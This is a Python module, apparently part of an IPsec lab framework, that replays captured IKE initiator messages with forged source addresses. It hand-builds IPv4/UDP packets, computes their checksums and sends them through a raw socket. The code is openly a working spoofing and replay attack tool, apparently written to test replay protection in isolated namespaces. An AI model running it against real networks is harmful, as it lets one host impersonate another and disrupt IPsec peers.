"""Replay recorded UDP datagrams verbatim, with their original (spoofed) source address.

An on-path attacker that recorded an IKE exchange sends its initiator's
messages again, byte for byte, from the initiator's address and ports: a
raw socket with IP_HDRINCL writes the IPv4 header itself. Run inside the
attacker's namespace, as a program (`python -m sealift.lab.ipsec.replay_attack <
packets.json`, a JSON list of {"src", "dst", "sport", "dport", "payload"
(hex)}) or by calling `send_datagrams` from a thread that is in it.

`ike_initiator_messages` picks the initiator's IKE messages out of a capture:
IKE_SA_INIT on UDP 500, the later exchanges on UDP 4500 behind the 4-byte
non-ESP marker (ESP in UDP starts with its SPI, never zero, instead).
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time
from collections.abc import Iterable, Sequence
from typing import Protocol

__all__ = ["IKE_NATT_PORT", "IKE_PORT", "checksum", "datagram", "ike_initiator_messages", "is_ike", "send_datagrams"]

IKE_PORT = 500
IKE_NATT_PORT = 4500
NON_ESP_MARKER = b"\0\0\0\0"
GAP_S = 0.2  # like the original exchange: one message after the other


class UdpDatagram(Protocol):
    """A recorded UDP datagram (e.g. sealift.lab.ipsec.routed_pair.UdpPacket)."""

    @property
    def src(self) -> str: ...
    @property
    def dst(self) -> str: ...
    @property
    def sport(self) -> int: ...
    @property
    def dport(self) -> int: ...
    @property
    def payload(self) -> bytes: ...


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(src: str, dst: str, sport: int, dport: int, payload: bytes, ident: int) -> bytes:
    """An IPv4/UDP packet with the given (possibly foreign) source address, checksums filled in."""
    udp_length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_length)
    udp = struct.pack("!HHHH", sport, dport, udp_length, 0) + payload
    udp_checksum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", udp_checksum) + udp[8:]
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + udp_length,
        ident & 0xFFFF,
        0,
        64,
        17,
        0,
        socket.inet_aton(src),
        socket.inet_aton(dst),
    )
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def is_ike(packet: UdpDatagram) -> bool:
    """An IKE message (not ESP in UDP, not a NAT-T keepalive)."""
    if packet.dport == IKE_PORT or packet.sport == IKE_PORT:
        return True
    natt = IKE_NATT_PORT in (packet.dport, packet.sport)
    return natt and len(packet.payload) > 4 and packet.payload[:4] == NON_ESP_MARKER


def ike_initiator_messages(packets: Iterable[UdpDatagram], initiator: str, responder: str) -> list[UdpDatagram]:
    """The IKE messages `initiator` sent to `responder`, in capture order."""
    return [p for p in packets if p.src == initiator and p.dst == responder and is_ike(p)]


def send_datagrams(packets: Sequence[UdpDatagram], gap_s: float = GAP_S) -> int:
    """Send each datagram as recorded (call from inside the attacker's namespace); how many were sent."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        for ident, packet in enumerate(packets, start=1):
            raw.sendto(
                datagram(packet.src, packet.dst, packet.sport, packet.dport, packet.payload, ident), (packet.dst, 0)
            )
            time.sleep(gap_s)
    return len(packets)


class _Recorded:
    def __init__(self, raw: dict) -> None:
        self.src, self.dst = str(raw["src"]), str(raw["dst"])
        self.sport, self.dport = int(raw["sport"]), int(raw["dport"])
        self.payload = bytes.fromhex(raw["payload"])


def main() -> int:
    packets = [_Recorded(raw) for raw in json.load(sys.stdin)]
    print(send_datagrams(packets))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
